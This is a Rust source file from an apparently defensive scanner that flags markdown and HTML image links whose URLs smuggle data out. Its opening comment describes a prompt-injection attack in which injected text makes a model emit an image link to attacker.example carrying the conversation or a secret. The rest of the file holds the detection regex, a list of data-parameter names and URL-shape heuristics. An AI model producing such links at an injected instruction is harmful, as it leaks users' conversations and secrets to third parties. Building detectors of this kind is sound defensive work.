//! Exfiltration links: markdown images and links, and HTML `<img>`, whose URL carries data.
//!
//! The attack: injected text makes the model emit `![](https://attacker.example/x.png?d=…)`
//! with the conversation (or a secret) in the URL; the chat client renders the image and the
//! browser delivers the data. What gives it away is the URL's shape: a template placeholder
//! (`{conversation}`, `[DATA]`, `$SECRET`), a long encoded value in a data-ish parameter,
//! or, in a response, any long value in an image URL.
//!
//! Matched on normalised (lower-cased) text, so "encoded" means long runs of letters and
//! digits, not case mixing.

use regex::Regex;
use std::ops::Range;

/// Markdown image or link (`![alt](url)`, `[text](url)`) or an HTML `<img … src=url>`.
/// Group `image` is set for images; `md` or `html` holds the URL. The URL is unbounded here and
/// cut to [`URL_CHARS`] in code: a `{1,2048}` repetition of a Unicode class compiled to a
/// 6 MiB automaton and took 46 ms of every start.
const LINK_PATTERN: &str = r#"(?:(?P<image>!)?\[[^\]]{0,300}\]\(\s?<?(?P<md>https?://[^)\s>]+)|<img\b[^>]{0,300}?\bsrc\s?=\s?["']?(?P<html>https?://[^\s"'>]+))"#;

/// The longest URL prefix judged; a longer URL is judged on its first `URL_CHARS` characters.
const URL_CHARS: usize = 2048;

/// Parameter names that, carrying a long value, say "the data goes here".
const DATA_PARAMS: &[&str] = &[
    "c",
    "chat",
    "content",
    "context",
    "conv",
    "conversation",
    "ctx",
    "d",
    "data",
    "h",
    "history",
    "info",
    "input",
    "leak",
    "log",
    "m",
    "memory",
    "msg",
    "message",
    "p",
    "payload",
    "prompt",
    "q",
    "s",
    "secret",
    "summary",
    "text",
    "x",
];

/// Shortest value of a data parameter that counts as carrying data.
const DATA_VALUE_CHARS: usize = 24;
/// Shortest encoded-looking value (letters and digits, no word separators) in any parameter
/// or path segment, on the response side.
const ENCODED_VALUE_CHARS: usize = 32;

/// Finds exfiltration links.
#[derive(Debug)]
pub(super) struct LinkFinder {
    /// Always `Some` (a constant pattern; a test compiles it), kept optional so building a
    /// scanner cannot fail on it.
    links: Option<Regex>,
}

impl LinkFinder {
    /// Compile the link pattern.
    pub(super) fn new() -> LinkFinder {
        LinkFinder {
            links: Regex::new(LINK_PATTERN).ok(),
        }
    }

    /// Whether the link pattern compiled (it always should).
    #[cfg(test)]
    pub(super) fn is_ready(&self) -> bool {
        self.links.is_some()
    }

    /// Spans of links in `text` that look like exfiltration. `response` applies the stricter
    /// response-side reading (an image URL with any long value).
    pub(super) fn find(&self, text: &str, response: bool, mut each: impl FnMut(Range<usize>)) {
        // Cheap gate: no URL, no link.
        let Some(links) = &self.links else {
            return;
        };
        if !text.contains("http") {
            return;
        }
        for caps in links.captures_iter(text) {
            let image = caps.name("image").is_some() || caps.name("html").is_some();
            let Some(url) = caps.name("md").or_else(|| caps.name("html")) else {
                continue;
            };
            if carries_data(char_prefix(url.as_str(), URL_CHARS), image, response) {
                if let Some(whole) = caps.get(0) {
                    each(whole.range());
                }
            }
        }
    }
}

/// The first `chars` characters of `text`.
fn char_prefix(text: &str, chars: usize) -> &str {
    text.char_indices()
        .nth(chars)
        .map_or(text, |(at, _)| &text[..at])
}

/// Whether a URL carries data, by its shape.
fn carries_data(url: &str, image: bool, response: bool) -> bool {
    let after_scheme = url.split_once("://").map_or(url, |(_, rest)| rest);
    // The host cannot hold a placeholder; everything after it can.
    let rest = after_scheme
        .find('/')
        .or_else(|| after_scheme.find('?'))
        .map_or("", |at| &after_scheme[at..]);
    if has_placeholder(rest) {
        return true;
    }
    let (path, query) = rest.split_once(['?', '#']).unwrap_or((rest, ""));
    for pair in query.split(['&', ';', '#']) {
        let (name, value) = pair.split_once('=').unwrap_or(("", pair));
        let data_param = DATA_PARAMS.contains(&name);
        if data_param
            && (image || response)
            && value.len() >= DATA_VALUE_CHARS
            && !looks_like_words(value)
        {
            return true;
        }
        if data_param && encoded_like(value) {
            return true;
        }
        // A rendered image in a response fetches its URL unasked: any long value is suspect.
        if response && image && (value.len() >= DATA_VALUE_CHARS || encoded_like(value)) {
            return true;
        }
    }
    response && image && path.split('/').any(encoded_like)
}

/// `{conversation}`, `[data]`, `<secret>` (or their percent-encodings), `$var`, `${var}`.
fn has_placeholder(text: &str) -> bool {
    text.contains(['{', '}', '[', ']', '<'])
        || text.contains("%7b")
        || text.contains("%5b")
        || text.contains("%3c")
        || text.contains('$')
}

/// A long run of letters and digits with both in it (base64, hex, url-safe tokens).
fn encoded_like(value: &str) -> bool {
    let value = value.trim_end_matches('=');
    value.len() >= ENCODED_VALUE_CHARS
        && value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'%'))
        && value.bytes().any(|b| b.is_ascii_digit())
        && value.bytes().any(|b| b.is_ascii_alphabetic())
}

/// A search-like value: words joined by `+` or `%20` (an ordinary `?q=rust+lifetimes`).
/// Such a value in a prompt's image URL is ordinary; in a response image it is still data.
fn looks_like_words(value: &str) -> bool {
    value.matches('+').count() + value.matches("%20").count() >= 2
}
